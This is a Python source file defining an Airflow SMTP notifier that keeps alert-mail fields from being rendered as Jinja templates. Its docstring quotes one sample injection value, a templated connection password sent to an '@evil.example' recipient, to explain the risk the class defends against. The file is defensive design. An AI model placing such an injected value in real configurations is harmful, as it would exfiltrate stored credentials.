"""The pair's alert mails: SMTP, with nothing from the config ever rendered as a Jinja template.

``SmtpNotifier`` renders every one of its fields (recipients, connection id, subject, body) with the
callback context, which holds ``conn`` and ``var``: a config value such as
``alert_emails: ["{{ conn.smtp_lab.password }}@evil.example"]`` would mail the password out. So here:

- ``to``, ``smtp_conn_id`` (and every other field) are plain values, never templates: only ``subject`` and
  ``html_content`` are template fields, and they are the product's own fixed text;
- the config values a mail shows (domain, target, slave, RPO) travel as data in ``pair`` and reach the
  templates as the context variable ``pair`` (``{{ pair.storage_domain }}``): Jinja prints a variable's
  value, it never evaluates it.

Used as the DAG's failure callback (runs in the dag-processor) and as the deadline alert's
``AsyncCallback`` (runs in the triggerer; its kwargs are stored as JSON, so ``pair`` is a plain dict).
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import TYPE_CHECKING, Any

from airflow.providers.smtp.notifications.smtp import SmtpNotifier

if TYPE_CHECKING:
    from airflow.sdk import Context


class PairMailNotifier(SmtpNotifier):
    """An ``SmtpNotifier`` whose only templates are its fixed subject and body; config values are data.

    :param pair: the values the templates may show, as ``{{ pair.<key> }}`` (strings, never rendered).
    Other arguments as ``SmtpNotifier`` (``to``, ``smtp_conn_id``, ``subject``, ``html_content``).
    """

    template_fields = ("subject", "html_content")

    def __init__(self, *, pair: Mapping[str, str] | None = None, **kwargs: Any) -> None:
        super().__init__(**kwargs)
        self.pair = {str(k): str(v) for k, v in (pair or {}).items()}

    def _update_context(self, context: Context) -> Context:
        context = super()._update_context(context)
        context["pair"] = dict(self.pair)  # type: ignore[typeddict-unknown-key]
        return context
